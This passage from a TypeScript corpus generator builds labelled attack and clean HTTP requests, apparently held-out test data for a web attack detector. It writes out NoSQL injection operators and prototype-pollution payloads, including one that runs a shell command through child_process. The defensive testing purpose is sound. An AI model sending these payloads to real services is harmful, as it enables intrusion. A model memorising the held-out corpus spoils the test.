        ),
      );
    }
    case 'multipart': {
      const asFile = family === 'path-traversal' || family === 'xss' ? rnd() < 0.5 : false;
      const m = multipart(
        asFile
          ? [
              {
                name: 'upload',
                filename: family === 'xss' ? `${p}.png` : p,
                type: 'image/png',
                value: '\x89PNG\r\n\x1a\n',
              },
              { name: 'folder', value: 'avatars' },
            ]
          : [
              { name: field, value: p },
              { name: 'file', filename: 'notes.txt', type: 'text/plain', value: 'meeting notes' },
            ],
      );
      return attack(
        family,
        technique,
        build(
          'attack',
          'POST',
          ctx.host,
          pick(['/api/uploads', '/api/import', '/api/avatar']),
          m.body,
          m.ct,
          c,
        ),
      );
    }
    default:
      throw new Error(`unknown technique ${technique}`);
  }
}

const STRING_TECHNIQUES: Record<string, readonly string[]> = {
  sql: [
    'plain',
    'nested',
    'key',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
  template: [
    'plain',
    'nested',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
  command: [
    'plain',
    'nested',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'form',
    'multipart',
    'key',
  ],
  'path-traversal': [
    'plain',
    'nested',
    'key',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
  ssrf: [
    'plain',
    'nested',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
  log4shell: [
    'plain',
    'nested',
    'key',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
  xss: [
    'plain',
    'nested',
    'key',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'form',
    'multipart',
  ],
};

const STRING_COUNTS: Record<string, number> = {
  sql: 44,
  template: 30,
  command: 34,
  'path-traversal': 32,
  ssrf: 32,
  log4shell: 28,
  xss: 34,
};

function coprimeStride(n: number): number {
  const gcd = (a: number, b: number): number => (b === 0 ? a : gcd(b, a % b));
  return [5, 7, 3, 11, 13].find((s) => gcd(s, n) === 1) ?? 1;
}

for (const [family, count] of Object.entries(STRING_COUNTS)) {
  const techniques = STRING_TECHNIQUES[family] ?? [];
  const payloads = PAYLOADS[family] ?? [];
  for (let i = 0; i < count; i++) {
    // Walk payloads at a stride co-prime with the pool size so every payload is used and pairs vary.
    stringAttack(family, at(techniques, i), at(payloads, i * coprimeStride(payloads.length)), i);
  }
}

// NoSQL operator injection: the payload is a JSON value or a bracketed parameter name.
const NOSQL_OPS: readonly Json[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '^adm' },
  { $where: 'sleep(5000) || true' },
  { $exists: true },
  { $nin: ['x'] },
  { $regex: '.*', $options: 'si' },
  { $where: 'this.password.match(/^a.*/)' },
  { $ne: 'invalid-password' },
  { $in: ['admin', 'root', 'administrator'] },
];
const NOSQL_PARAM = [
  '[$ne]=1',
  '[$gt]=',
  '[$regex]=.*',
  '[$exists]=true',
  '[$nin][]=x',
  '[$where]=sleep(5000)',
];

function nosqlAttack(technique: string, i: number): void {
  const op = at(NOSQL_OPS, i);
  const c = attackClient();
  const login = rnd() < 0.5;
  const host = login
    ? pick([H.bank, H.game, H.hr, H.lms])
    : pick([H.analytics, H.logistics, H.cms, H.devops]);
  const path = login
    ? pick(['/api/auth/login', '/api/v1/sessions', '/oauth/login'])
    : pick(['/api/search', '/api/v1/records/query', '/api/items/find']);
  const key = login ? 'password' : pick(['ownerId', 'status', 'email', 'trackingNo']);
  const base: Record<string, Json> = login
    ? { username: pick(['admin', 'kira', 'sean.oleary@example.com']) }
    : { limit: 20 };
  const paramKey = at(NOSQL_PARAM, i);
  switch (technique) {
    case 'plain':
      return attack('nosql', technique, jsonReq('attack', 'POST', host, path, { ...base, [key]: op }, c));
    case 'nested':
      return attack(
        'nosql',
        technique,
        jsonReq('attack', 'POST', host, path, { ...base, filter: { account: { owner: { [key]: op } } } }, c),
      );
    case 'key':
      return attack(
        'nosql',
        technique,
        jsonReq(
          'attack',
          'POST',
          host,
          path,
          {
            ...base,
            ...pick([
              { $where: 'sleep(5000)' },
              { $or: [{ [key]: 'x' }, { [key]: { $ne: 'x' } }] },
              { $where: "this.role == 'admin'" },
              { $expr: { $eq: [1, 1] } },
            ]),
          },
          c,
        ),
      );
    case 'array':
      return attack(
        'nosql',
        technique,
        jsonReq('attack', 'POST', host, path, { ...base, [`${key}s`]: ['a', op], $and: [{ [key]: op }] }, c),
      );
    case 'unicode-escape': {
      const opKey = Object.keys(op as object)[0] ?? '$ne';
      const text = splice(
        { ...base, [key]: { [MARK]: (op as Record<string, Json>)[opKey] ?? null } },
        uniEscape(opKey, 'nosql', i % 2 === 0),
      );
      return attack('nosql', technique, build('attack', 'POST', host, path, text, 'application/json', c));
    }
    case 'json-in-string':
      return attack(
        'nosql',
        technique,
        jsonReq('attack', 'POST', host, path, { ...base, query: JSON.stringify({ [key]: op }) }, c),
      );
    case 'base64':
      return attack(
        'nosql',
        technique,
        jsonReq('attack', 'POST', host, path, { ...base, cursor: b64(JSON.stringify({ [key]: op })) }, c),
      );
    case 'graphql-variable':
      return attack(
        'nosql',
        technique,
        jsonReq(
          'attack',
          'POST',
          host,
          '/graphql',
          {
            operationName: 'Find',
            query: 'query Find($where: JSON) { records(where: $where) { id name } }',
            variables: { where: { [key]: op } },
          },
          c,
        ),
      );
    case 'double-encoded':
      return attack(
        'nosql',
        technique,
        getReq(
          'attack',
          host,
          `${path}?${key}${pct(pct(paramKey.split('=')[0] ?? ''))}=${pct(pct(paramKey.split('=')[1] ?? ''))}`,
          c,
        ),
      );
    case 'query-param': {
      const [k, v] = paramKey.split('=');
      return attack(
        'nosql',
        technique,
        getReq(
          'attack',
          host,
          `${path}?${login ? 'username=admin&' : ''}${encodeURIComponent(`${key}${k ?? ''}`)}=${encodeURIComponent(v ?? '')}`,
          c,
        ),
      );
    }
    case 'form': {
      const [k, v] = paramKey.split('=');
      return attack(
        'nosql',
        technique,
        build(
          'attack',
          'POST',
          host,
          path,
          form([
            ['username', 'admin'],
            [`${key}${k ?? ''}`, v ?? ''],
          ]),
          'application/x-www-form-urlencoded',
          c,
        ),
      );
    }
    case 'multipart': {
      const [k, v] = paramKey.split('=');
      const m = multipart([
        { name: 'username', value: 'admin' },
        { name: `${key}${k ?? ''}`, value: v ?? '' },
      ]);
      return attack('nosql', technique, build('attack', 'POST', host, path, m.body, m.ct, c));
    }
    default:
      throw new Error(`unknown technique ${technique}`);
  }
}
const NOSQL_TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'form',
  'multipart',
];
for (let i = 0; i < 32; i++) nosqlAttack(at(NOSQL_TECHNIQUES, i), i);

// Prototype pollution: objects built with JSON.parse so `__proto__` is an own key.
const PP_SHAPES = [
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"__proto__":{"polluted":"yes","shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
  '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
  '{"constructor":{"prototype":{"allowedHosts":["*"]}}}',
  '{"__proto__":{"status":500,"expose":true}}',
];
const PP_PARAMS = [
  '__proto__[isAdmin]=true',
  'constructor[prototype][role]=admin',
  '__proto__.polluted=1',
  'settings[__proto__][admin]=1',
  '__proto__[outputFunctionName]=x;process.exit();x',
];

function ppAttack(technique: string, i: number): void {
  const shape = at(PP_SHAPES, i);
  const inner = JSON.parse(shape) as Json;
  const ctx = pick(CTXS);
  const c = attackClient();
  const param = at(PP_PARAMS, i);
  const raw = (prefix: string, tail: string): string =>
    `${prefix.slice(0, -1)}${prefix.length > 2 ? ',' : ''}${tail}}`;
  switch (technique) {
    case 'plain': {
      const text = raw(JSON.stringify(ctx.base()), shape.slice(1, -1));
      return attack(
        'prototype-pollution',
        technique,
        build('attack', ctx.method, ctx.host, ctx.path, text, 'application/json', c),
      );
    }
    case 'nested': {
      const text = JSON.stringify({ ...ctx.base(), [at(ctx.wrap, i)]: { theme: MARK } }).replace(
        `"${MARK}"`,
        shape,
      );
      return attack(
        'prototype-pollution',
        technique,
        build('attack', ctx.method, ctx.host, ctx.path, text, 'application/json', c),
      );
    }
    case 'key': {
      const k = pick([
        '__proto__.isAdmin',
        'constructor.prototype.isAdmin',
        'profile.__proto__.role',
        '__proto__[admin]',
      ]);
      return attack(
        'prototype-pollution',
        technique,
        jsonReq('attack', ctx.method, ctx.host, ctx.path, { ...ctx.base(), [k]: true }, c),
      );
    }
    case 'array': {
      const text = JSON.stringify({ ...ctx.base(), items: [{ sku: 'A-1' }, MARK] }).replace(
        `"${MARK}"`,
        shape,
      );
      return attack(
        'prototype-pollution',
        technique,
        build('attack', ctx.method, ctx.host, ctx.path, text, 'application/json', c),
      );
    }
    case 'unicode-escape': {
      const esc = shape.replace(/__proto__|constructor/g, (m) =>
        uniEscape(m, 'prototype-pollution', i % 2 === 0),
      );
      const text = raw(JSON.stringify(ctx.base()), esc.slice(1, -1));
      return attack(
        'prototype-pollution',
        technique,
        build('attack', ctx.method, ctx.host, ctx.path, text, 'application/json', c),
      );
    }
    case 'json-in-string':
      return attack(
        'prototype-pollution',
        technique,
        jsonReq('attack', ctx.method, ctx.host, ctx.path, { ...ctx.base(), preferences: shape }, c),
      );
    case 'base64':
      return attack(
        'prototype-pollution',
        technique,
        jsonReq('attack', ctx.method, ctx.host, ctx.path, { ...ctx.base(), state: b64(shape) }, c),
      );
    case 'graphql-variable': {
      const op = at(GQL_OPS, 0);
      const text = JSON.stringify({
        operationName: op.name,
        query: op.query,
        variables: { input: MARK },
      }).replace(`"${MARK}"`, shape);
      return attack(
        'prototype-pollution',
        technique,
        build('attack', 'POST', op.host, '/graphql', text, 'application/json', c),
      );
    }
    case 'query-param': {
      const g = pick(GET_CTXS);
      const [k, v] = param.split('=');
      return attack(
        'prototype-pollution',
        technique,
        getReq('attack', g.host, `${g.path}?${qs([[k ?? '', v ?? '']], rnd() < 0.5 ? 'uri' : 'form')}`, c),
      );
    }
    case 'double-encoded': {
      const g = pick(GET_CTXS);
      const [k, v] = param.split('=');
      return attack(
        'prototype-pollution',
        technique,
        getReq('attack', g.host, `${g.path}?${pct(pct(k ?? ''))}=${pct(pct(v ?? ''))}`, c),
      );
    }
    case 'form': {
      const [k, v] = param.split('=');
      return attack(
        'prototype-pollution',
        technique,
        build(
          'attack',
          'POST',
          ctx.host,
          '/account/settings',
          form([
            ['theme', 'dark'],
            [k ?? '', v ?? ''],
          ]),
          'application/x-www-form-urlencoded',
          c,
        ),
      );
    }
    case 'multipart': {
      const [k, v] = param.split('=');
      const m = multipart([
        { name: 'title', value: 'Q3 report' },
        { name: k ?? '', value: v ?? '' },
      ]);
      return attack(
        'prototype-pollution',
        technique,
        build('attack', 'POST', ctx.host, '/api/uploads', m.body, m.ct, c),
      );
    }
    case 'json-patch': {
      const ops = [
        {
          op: 'add',
          path: pick(['/__proto__/isAdmin', '/constructor/prototype/role', '/settings/__proto__/admin']),
          value: true,
        },
      ];
      return attack(
        'prototype-pollution',
        technique,
        jsonReq('attack', 'PATCH', ctx.host, ctx.path, ops, c, 'application/json-patch+json'),
      );
    }
    case 'merge-patch':
      return attack(
        'prototype-pollution',
        technique,
        jsonReq('attack', 'PATCH', ctx.host, ctx.path, inner, c, 'application/merge-patch+json'),
      );
    default:
      throw new Error(`unknown technique ${technique}`);
  }
}
const PP_TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'query-param',
  'double-encoded',
  'form',
  'multipart',
  'json-patch',
  'merge-patch',
];
for (let i = 0; i < 30; i++) ppAttack(at(PP_TECHNIQUES, i), i);

// ---------------------------------------------------------------------------------------------------------
// Output
// ---------------------------------------------------------------------------------------------------------

const cleanOut: CorpusRequest[] = clean.map((r, i) => ({ id: `h5c${i + 1}`, ...r }));
const attackOut: CorpusRequest[] = attacks.map((r, i) => ({ id: `h5a${i + 1}`, ...r }));

/** The fifth held-out corpora, as written to clean-heldout5.json and attacks-heldout5.json. */
export const heldout5 = { clean: cleanOut, attacks: attackOut };

if (import.meta.main) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout5.json'), `${JSON.stringify(cleanOut, null, 2)}\n`);
  writeFileSync(join(here, 'attacks-heldout5.json'), `${JSON.stringify(attackOut, null, 2)}\n`);
}
